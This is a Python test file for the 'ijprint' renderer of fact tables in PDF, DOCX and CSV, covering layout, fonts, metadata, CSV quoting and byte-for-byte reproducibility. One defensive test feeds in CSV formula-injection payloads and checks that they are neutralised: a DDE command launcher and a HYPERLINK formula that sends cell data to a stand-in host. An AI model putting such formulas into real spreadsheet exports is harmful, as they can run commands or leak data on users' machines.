"""Fact tables (PDF, DOCX, CSV): what a reader of each file would check."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import docx
import pdfplumber
import pytest
from docx.oxml.ns import qn
from pypdf import PdfReader

from ijprint.model import Document, Fact, Metadata, Node, TimelineEntry, parse_inline, walk
from ijprint.render.facts import FORMAT as FACTS_FORMAT
from ijprint.render.facts_csv import CSV_COLUMNS
from ijprint.fact_rows import fact_groups, timeline_rows

LONG_TOKEN = "https://example.org/" + "abcdefghij" * 30
BOM = b"\xef\xbb\xbf"  # UTF-8's byte-order mark, which facts.csv starts with by default


@pytest.fixture(scope="module")
def seed_files(seed_document, default_style, faces, context) -> dict[str, bytes]:
    return FACTS_FORMAT.render(seed_document, context)


def recorded_terms(document: Document) -> list[str]:
    """Every fact value and period and every timeline year and event: what the tables must carry."""
    terms = []
    for _, node in walk(document.sections):
        terms += [text for fact in node.facts for text in (fact.value, fact.period) if text]
        terms += [text for entry in node.timeline for text in (entry.year, entry.event)]
    return list(dict.fromkeys(terms))


def synthetic(count: int, long_token: bool = False) -> Document:
    facts = tuple(
        Fact(f"Measure number {i}", f"{i * 37 % 1000},{i % 1000:03d} units", f"{1900 + i % 120}", "", "note " * (i % 7))
        for i in range(count)
    )
    if long_token:
        facts += (Fact("Link", LONG_TOKEN),)
    node = Node("synthetic.figures", parse_inline("Figures"), facts=facts)
    section = Node("synthetic", parse_inline("Synthetic section"), children=(node,))
    return Document(Metadata("Synthetic topic", author="Test"), (section,))


def pdf_words(data: bytes) -> list[list[dict]]:
    with pdfplumber.open(io.BytesIO(data)) as pdf:
        return [page.extract_words(keep_blank_chars=False, use_text_flow=False) for page in pdf.pages]


def normalised_words(data: bytes) -> set[str]:
    return {word["text"] for page in pdf_words(data) for word in page}


def docx_cell_texts(data: bytes) -> list[str]:
    document = docx.Document(io.BytesIO(data))
    return [" ".join(cell.text.split()) for table in document.tables for row in table.rows for cell in row.cells]


# ---------------------------------------------------------------- content in all three outputs


def test_every_recorded_figure_and_event_is_in_all_three_outputs(seed_document, seed_files):
    terms = recorded_terms(seed_document)
    # The article's figures and names that the content records as facts must be among them.
    assert {"JPY 10 trillion", "$22.8 bn", "5 lakh", "2000–2023", "Information Protection Agreement"} <= set(terms)
    csv_cells = [cell for row in csv.reader(io.StringIO(seed_files["facts.csv"].decode("utf-8-sig"))) for cell in row]
    docx_cells = docx_cell_texts(seed_files["facts.docx"])
    words = normalised_words(seed_files["facts.pdf"])
    for term in terms:
        assert any(term in cell for cell in csv_cells), f"{term!r} missing from facts.csv"
        assert any(" ".join(term.split()) in cell for cell in docx_cells), f"{term!r} missing from facts.docx"
        missing = [word for word in term.split() if word not in words]
        assert not missing, f"{term!r} missing from facts.pdf (words {missing})"


def test_article_terms_recorded_as_facts_reach_the_tables(seed_document, seed_files, article_terms):
    recorded = " | ".join(recorded_terms(seed_document))
    in_facts = [term for term in article_terms if term in recorded]
    assert len(in_facts) >= 20
    text = seed_files["facts.csv"].decode("utf-8-sig")
    assert [term for term in in_facts if term not in text] == []


def test_printed_rows_carry_the_section_number_and_no_machine_id(seed_document, seed_files):
    """The printed tables name a row's place by its section number ("4.1"), the one the map and the notes
    print; node ids and label paths stay in the CSV, for tools."""
    from ijprint.model import section_numbers

    numbers = section_numbers(seed_document.sections)
    pdf_text = " ".join(" ".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(seed_files["facts.pdf"])).pages)
    docx_document = docx.Document(io.BytesIO(seed_files["facts.docx"]))
    csv_rows = list(csv.DictReader(io.StringIO(seed_files["facts.csv"].decode("utf-8-sig"), newline="")))
    rows = [row for group in fact_groups(seed_document) for row in group.rows]
    assert len(csv_rows) == len(rows) + len(timeline_rows(seed_document))
    for row, (table, index) in zip(rows, _docx_fact_rows(docx_document)):
        assert row.number == numbers[row.node_id]
        cells = [cell.text for cell in table.rows[index].cells]
        assert cells[0] == row.number and row.what in cells, cells
        assert f"{row.number} {row.what}" in pdf_text
    # A main section's id is one word that may be printed as such ("background"); deeper ids are dotted.
    for _, node in walk(seed_document.sections):
        assert "." not in node.id or node.id not in pdf_text + " ".join(docx_cell_texts(seed_files["facts.docx"]))
    for csv_row, row in zip(csv_rows, [*rows, *timeline_rows(seed_document)]):
        assert (csv_row["number"], csv_row["node_id"], csv_row["section_path"]) == (row.number, row.node_id, row.section_path)
    for group in fact_groups(seed_document):
        assert f"{group.number} · {group.section}" in pdf_text


def _docx_fact_rows(document) -> list:
    """(table, row index) of every fact row of facts.docx, in order."""
    return [(table, index) for table in document.tables[:-1] for index in range(1, len(table.rows))]


# ---------------------------------------------------------------- PDF


def test_pdf_words_do_not_overlap_and_stay_inside_margins(seed_files, default_style):
    margins = default_style.margins
    with pdfplumber.open(io.BytesIO(seed_files["facts.pdf"])) as pdf:
        for number, page in enumerate(pdf.pages, start=1):
            words = page.extract_words()
            assert words, f"page {number} has no extractable text"
            for word in words:
                assert word["x0"] >= margins.left - 0.5 and word["x1"] <= page.width - margins.right + 0.5, word
                assert word["top"] >= margins.top - 0.5 and word["bottom"] <= page.height - margins.bottom + 0.5, word
            assert_no_overlap(words, number)


def assert_no_overlap(words: list[dict], page: int) -> None:
    for i, a in enumerate(words):
        for b in words[i + 1 :]:
            overlap_x = min(a["x1"], b["x1"]) - max(a["x0"], b["x0"])
            overlap_y = min(a["bottom"], b["bottom"]) - max(a["top"], b["top"])
            assert overlap_x <= 0.5 or overlap_y <= 0.5, f"page {page}: {a['text']!r} overlaps {b['text']!r}"


def test_pdf_fonts_are_embedded_and_text_extractable(seed_files, unembedded_fonts):
    reader = PdfReader(io.BytesIO(seed_files["facts.pdf"]))
    assert unembedded_fonts(seed_files["facts.pdf"]) == []
    for page in reader.pages:
        assert page["/Resources"]["/Font"]
        text = page.extract_text()
        assert text.strip() and "(cid:" not in text


def test_pdf_has_page_numbers_title_credit_and_metadata(seed_document, seed_files):
    reader = PdfReader(io.BytesIO(seed_files["facts.pdf"]))
    total = len(reader.pages)
    for number, page in enumerate(reader.pages, start=1):
        assert f"Page {number} of {total}" in page.extract_text()
    first = " ".join(reader.pages[0].extract_text().split())
    assert seed_document.meta.title in first and seed_document.meta.credit in first
    info = reader.metadata
    assert seed_document.meta.title in info.title
    assert info.author == seed_document.meta.author
    assert info.subject == seed_document.meta.subtitle
    assert all(tag in info["/Keywords"] for tag in seed_document.meta.tags)


def test_five_thousand_facts_repeat_the_header_on_every_page(default_style, faces, context):
    data = FACTS_FORMAT.render(synthetic(5000), context)["facts.pdf"]
    # pypdf reads the text of all 160-odd pages in a few seconds, pdfplumber's layout analysis in twenty.
    pages = PdfReader(io.BytesIO(data)).pages
    assert len(pages) > 20
    for number, page in enumerate(pages, start=1):
        text = page.extract_text()
        assert "No." in text and "What" in text and "Value" in text, f"no header row on page {number}"
    with pdfplumber.open(io.BytesIO(data)) as pdf:
        for page in pdf.pages[:3] + pdf.pages[-2:]:
            assert_no_overlap(page.extract_words(), page.page_number)


def test_long_unbroken_token_is_wrapped_not_clipped(default_style, faces, context):
    data = FACTS_FORMAT.render(synthetic(0, long_token=True), context)["facts.pdf"]
    with pdfplumber.open(io.BytesIO(data)) as pdf:
        page = pdf.pages[0]
        words = page.extract_words()
        margins = default_style.margins
        assert all(word["x1"] <= page.width - margins.right + 0.5 for word in words)
        value = next(word for word in words if word["text"] == "Value")
        # Value is the last column: its cell reaches the right margin.
        after = min((word["x0"] for word in words if word["top"] == value["top"] and word["x0"] > value["x0"]), default=page.width - margins.right + 1)
        pieces = sorted((w for w in words if value["x0"] - 1 <= w["x0"] < after - 1 and value["bottom"] < w["top"] < page.height / 2), key=lambda w: w["top"])
        assert len(pieces) > 1
        assert "".join(word["text"] for word in pieces) == LONG_TOKEN


def test_narrow_tables_print_portrait(default_style, faces, context):
    entries = tuple(TimelineEntry(str(2000 + i), f"Event {i}") for i in range(5))
    document = Document(Metadata("Dates"), (Node("dates", parse_inline("Dates"), timeline=entries),))
    data = FACTS_FORMAT.render(document, context)["facts.pdf"]
    page = PdfReader(io.BytesIO(data)).pages[0]
    assert page.mediabox.width < page.mediabox.height


def test_topic_without_facts_still_renders(default_style, faces, context):
    document = Document(Metadata("Empty"), (Node("a", parse_inline("A")),))
    files = FACTS_FORMAT.render(document, context)
    assert "no facts" in PdfReader(io.BytesIO(files["facts.pdf"])).pages[0].extract_text()
    assert files["facts.csv"] == BOM + (",".join(CSV_COLUMNS) + "\r\n").encode()


# ---------------------------------------------------------------- DOCX


def test_docx_tables_repeat_a_shaded_header_and_size_every_cell(seed_document, seed_files, default_style):
    document = docx.Document(io.BytesIO(seed_files["facts.docx"]))
    groups = fact_groups(seed_document)
    assert len(document.tables) == len(groups) + 1
    fill = default_style.header_fill.lstrip("#").upper()
    for table in document.tables:
        first = table.rows[0]._tr
        assert first.trPr is not None and first.trPr.find(qn("w:tblHeader")) is not None
        for row in table.rows:
            for cell in row.cells:
                width = cell._tc.tcPr.find(qn("w:tcW"))
                assert width is not None and int(width.get(qn("w:w"))) > 0
        for cell in table.rows[0].cells:
            shading = cell._tc.tcPr.find(qn("w:shd"))
            assert shading is not None and shading.get(qn("w:fill")).upper() == fill
    headings = [(p.style.name, p.text) for p in document.paragraphs if p.style.name.startswith("Heading")]
    assert headings[0] == ("Heading 1", seed_document.meta.title)
    assert [text for name, text in headings if name == "Heading 2"] == [f"{group.number} · {group.section}" for group in groups] + ["Timeline"]
    assert document.tables[0].style.name == "Table Grid"


def test_docx_timeline_is_in_date_order(seed_document, seed_files):
    table = docx.Document(io.BytesIO(seed_files["facts.docx"])).tables[-1]
    years = [row.cells[0].text for row in table.rows[1:]]
    assert years == [row.year for row in timeline_rows(seed_document)]
    assert years == sorted(years, key=lambda year: int(year[:4]))


# ---------------------------------------------------------------- CSV


def test_csv_parses_back_one_row_per_fact_and_timeline_entry(seed_document, seed_files):
    data = seed_files["facts.csv"]
    assert data.startswith(BOM) and not data[len(BOM):].startswith(BOM)
    assert data.endswith(b"\r\n") and b"\n" not in data.replace(b"\r\n", b"")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS == ("kind", "number", "section_path", "node_id", "what", "value", "period", "unit", "note")
    facts = sum(len(group.rows) for group in fact_groups(seed_document))
    timeline = len(timeline_rows(seed_document))
    assert len(rows) - 1 == facts + timeline
    assert [row[0] for row in rows[1:]] == ["fact"] * facts + ["timeline"] * timeline
    assert all(len(row) == len(CSV_COLUMNS) for row in rows)


def test_csv_byte_order_mark_is_a_style_choice(seed_files, seed_document, context, tmp_path):
    """With a BOM by default (Excel opens it right on a double-click); `csv: {bom: false}` leaves only the mark out,
    and the style's choice is part of what the manifest fingerprints, so a changed choice rebuilds the file."""
    from ijprint.release.fingerprint import topic_inputs
    from ijprint.style import load_style

    assert context.style.csv_bom and seed_files["facts.csv"].startswith(BOM)
    assert seed_files["facts.csv"].decode("utf-8-sig").startswith("kind,") and "–" in seed_files["facts.csv"].decode("utf-8-sig")
    plain_file = tmp_path / "no-bom.yaml"
    plain_file.write_text("format: 1\nextends: default\ncsv: {bom: false}\n", encoding="utf-8")
    plain = load_style(str(plain_file))
    data = FACTS_FORMAT.render(seed_document, replace(context, style=plain))["facts.csv"]
    assert data == seed_files["facts.csv"][len(BOM):]
    assert topic_inputs(b"x", plain, "") != topic_inputs(b"x", replace(plain, csv_bom=True), "")


def test_csv_bom_must_be_true_or_false(tmp_path):
    from ijprint.errors import ContentError
    from ijprint.style import load_style

    bad = tmp_path / "bad.yaml"
    bad.write_text("format: 1\nextends: default\ncsv:\n  bom: 'no'\n", encoding="utf-8")
    with pytest.raises(ContentError) as info:
        load_style(str(bad))
    assert (info.value.line, info.value.path) == (4, "csv.bom") and "true or false" in info.value.message


def test_csv_quotes_commas_quotes_and_newlines(default_style, faces, context):
    tricky = Fact('Quote "here"', "1,000", note="line one\nline two")
    document = Document(Metadata("T"), (Node("t", parse_inline("T"), facts=(tricky,)),))
    data = FACTS_FORMAT.render(document, context)["facts.csv"]
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[1][4:9] == ['Quote "here"', "1,000", "", "", "line one\nline two"]


def test_markup_characters_print_as_text(default_style, faces, context):
    fact = Fact("R&D <share>", "A & B > C", note="<b>not bold</b>")
    document = Document(Metadata("T & <U>"), (Node("t", parse_inline("T"), facts=(fact,)),))
    files = FACTS_FORMAT.render(document, context)
    text = " ".join(PdfReader(io.BytesIO(files["facts.pdf"])).pages[0].extract_text().split())
    for expected in ("T & <U>", "R&D <share>", "A & B > C", "<b>not bold</b>"):
        assert expected in text
    assert "A & B > C" in docx_cell_texts(files["facts.docx"])


# ---------------------------------------------------------------- reproducibility


def test_all_three_are_byte_identical_across_renders(seed_document, seed_files, default_style, faces, context):
    again = FACTS_FORMAT.render(seed_document, context)
    assert again == seed_files
    later = FACTS_FORMAT.render(seed_document, replace(context, build_time=context.build_time.replace(year=2030)))
    assert later["facts.pdf"] != seed_files["facts.pdf"] and later["facts.csv"] == seed_files["facts.csv"]


@pytest.mark.parametrize("wide", [False, True])
def test_pdf_and_docx_choose_the_same_orientation(wide, default_style, faces, context):
    words = "considerably lengthy wording " * 6 if wide else "short"
    facts = tuple(Fact(f"{words} {i}", f"{words} value", f"{words} period", f"{words} unit", f"{words} note") for i in range(3))
    document = Document(Metadata("Orientation"), (Node("o", parse_inline("O"), facts=facts),))
    files = FACTS_FORMAT.render(document, context)
    box = PdfReader(io.BytesIO(files["facts.pdf"])).pages[0].mediabox
    section = docx.Document(io.BytesIO(files["facts.docx"])).sections[0]
    assert (box.width > box.height) == (section.page_width > section.page_height) == wide


def test_csv_neutralises_formulas_but_keeps_plain_signed_numbers(default_style, faces, context):
    """A cell a spreadsheet would run gets a leading "'" (CSV injection); plain numbers stay numbers."""
    values = {
        "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
        '=HYPERLINK("http://x.example/?"&A1,"Click")': '\'=HYPERLINK("http://x.example/?"&A1,"Click")',
        "@SUM(1+1)": "'@SUM(1+1)",
        "+1+1": "'+1+1",
        "-1+1": "'-1+1",
        "+2.1 pp": "'+2.1 pp",
        "\t=1+1": "'\t=1+1",
        "\r=1+1": "'\r=1+1",
        "-2.5": "-2.5",
        "-3%": "-3%",
        "+3": "+3",
        "-1,000.5": "-1,000.5",
        "USD 38 bn": "USD 38 bn",
        "a=b": "a=b",
    }
    facts = tuple(Fact(value, value, period=value, unit=value, note=value) for value in values)
    timeline = tuple(TimelineEntry(value, value) for value in values)
    document = Document(Metadata("T"), (Node("t", parse_inline("T"), facts=facts, timeline=timeline),))
    data = FACTS_FORMAT.render(document, context)["facts.csv"]
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    fact_rows = [row for row in rows if row[0] == "fact"]
    assert [(row[4], row[5], row[6], row[7], row[8]) for row in fact_rows] == [(safe,) * 5 for safe in values.values()]
    timeline_cells = sorted((row[4], row[6]) for row in rows if row[0] == "timeline")
    assert timeline_cells == sorted((safe, safe) for safe in values.values())


# ---------------------------------------------------------------- cells written as markup / as finished lines


def test_docx_cells_keep_tabs_line_breaks_and_drop_characters_xml_cannot_carry(default_style, faces, context):
    from ijprint.render.facts_docx import render_facts_docx

    fact = Fact("Bell\x07 and nul\x00", "  padded  ", note="line one\nline two\tafter tab")
    document = Document(Metadata("T"), (Node("t", parse_inline("T"), facts=(fact,)),))
    data = render_facts_docx(document, default_style, faces, context)
    table = docx.Document(io.BytesIO(data)).tables[0]
    cells = {cell.text for cell in table.rows[1].cells}
    assert "Bell and nul" in cells and "  padded  " in cells and "line one\nline two\tafter tab" in cells
    value = next(cell for cell in table.rows[1].cells if cell.text == "  padded  ")
    assert value.paragraphs[0].runs[0].bold


def test_pdf_row_continued_on_the_next_page_starts_right_under_the_header(default_style, faces, context):
    entries = tuple(TimelineEntry(str(1990 + i), " ".join(f"event{i}-{n}" for n in range(7 * i))) for i in range(30))
    document = Document(Metadata("Long rows"), (Node("t", parse_inline("T"), timeline=entries),))
    data = FACTS_FORMAT.render(document, context)["facts.pdf"]
    leading = default_style.body_size * 1.22
    with pdfplumber.open(io.BytesIO(data)) as pdf:
        assert len(pdf.pages) > 2
        for page in pdf.pages[1:]:
            words = page.extract_words()
            first = min(word["top"] for word in words if word["text"].startswith("event"))
            header_bottom = max(word["bottom"] for word in words if word["text"] in ("Year", "Event", "No.") and word["top"] < first)
            # Cell padding under the header and above the text, then the first line: never an empty line between.
            assert first - header_bottom < leading, f"page {page.page_number}: gap under the header"
            assert_no_overlap(words, page.page_number)


def test_pdf_row_taller_than_a_page_is_continued_under_the_header_in_its_own_shade(default_style, faces, context):
    words = [f"word{n}" for n in range(1500)]
    facts = (Fact("small", "1"), Fact("huge", "2", note=" ".join(words)), Fact("after", "3"))
    document = Document(Metadata("Huge row"), (Node("h", parse_inline("H"), facts=facts),))
    data = FACTS_FORMAT.render(document, context)["facts.pdf"]
    leading = default_style.body_size * 1.22
    with pdfplumber.open(io.BytesIO(data)) as pdf:
        assert len(pdf.pages) >= 3
        # The heading and the start of the row share the first page with the title: no page is left near empty.
        first_text = pdf.pages[0].extract_text()
        assert "Huge row" in first_text and "small" in first_text and "word0" in first_text
        read, shades = [], []
        for page in pdf.pages:
            page_words = page.extract_words()
            assert_no_overlap(page_words, page.page_number)
            header = [w for w in page_words if w["text"] == "Note"]
            assert header, f"no header on page {page.page_number}"
            body = sorted((w for w in page_words if w["text"].startswith("word")), key=lambda w: (round(w["top"]), w["x0"]))
            read += [w["text"] for w in body]
            if page.page_number > 1 and body and body[0]["text"] != "word0":
                # Everything above the continued lines is the header row (its last column wraps).
                header_bottom = max(w["bottom"] for w in page_words if w["top"] < body[0]["top"])
                assert body[0]["top"] - header_bottom < leading, f"page {page.page_number}: gap under the header"
            if body:
                middle = ((body[0]["x0"] + body[0]["x1"]) / 2, (body[0]["top"] + body[0]["bottom"]) / 2)
                shades.append(next(r["non_stroking_color"] for r in page.rects if r["x0"] <= middle[0] <= r["x1"] and r["top"] <= middle[1] <= r["bottom"]))
        assert read == words, "a line of the long row is lost, repeated or out of order"
        assert len(set(map(tuple, shades))) == 1, "the continued row changes its zebra shade"


def test_pdf_heading_is_never_left_at_a_page_bottom_without_its_first_rows(default_style, faces, context):
    sections = tuple(
        Node(f"s{s}", parse_inline(f"Heading{s} section"), facts=tuple(Fact(f"Item{s}-{i}", f"{i} units") for i in range(2 + s % 4)))
        for s in range(40)
    )
    data = FACTS_FORMAT.render(Document(Metadata("Many sections"), sections), context)["facts.pdf"]
    with pdfplumber.open(io.BytesIO(data)) as pdf:
        assert len(pdf.pages) > 2
        for page in pdf.pages:
            page_words = page.extract_words(extra_attrs=["size"])
            # Headings are the large words.
            headings = sorted((w for w in page_words if w["text"].startswith("Heading") and w["size"] > default_style.body_size + 1), key=lambda w: w["top"])
            for heading, following in zip(headings, headings[1:] + [None]):
                below = [w for w in page_words if w["top"] > heading["bottom"] and (following is None or w["top"] < following["top"])]
                section = heading["text"][len("Heading") :]
                rows = [w for w in below if w["text"].startswith(f"Item{section}-")]
                assert any(w["text"] == "What" for w in below), f"page {page.page_number}: {heading['text']} without its header"
                assert len(rows) >= min(3, 2 + int(section) % 4), f"page {page.page_number}: {heading['text']} without its first rows"


def test_pdf_bytes_are_the_same_in_another_process(seed_path, seed_files):
    import hashlib
    import os
    import subprocess
    import sys

    script = (
        "import hashlib, sys\n"
        "from ijprint.render.registry import RenderContext\n"
        "from ijprint.fonts import load_fonts\n"
        "from ijprint.render.facts_pdf import render_facts_pdf\n"
        "from ijprint.reproducible import build_time\n"
        "from ijprint.sources import load_document\n"
        "from ijprint.style import load_style\n"
        "from pathlib import Path\n"
        "document = load_document(Path(sys.argv[1]))\n"
        "style = load_style('default')\n"
        "context = RenderContext(style=style, build_time=build_time(None, document.meta.date), generator='ijprint test')\n"
        "print(hashlib.sha256(render_facts_pdf(document, style, load_fonts(style.fonts), context)).hexdigest())\n"
    )
    expected = hashlib.sha256(seed_files["facts.pdf"]).hexdigest()
    for seed in ("1", "2"):
        environment = {**os.environ, "PYTHONHASHSEED": seed}
        result = subprocess.run([sys.executable, "-c", script, str(seed_path)], capture_output=True, text=True, env=environment, check=True)
        assert result.stdout.strip() == expected
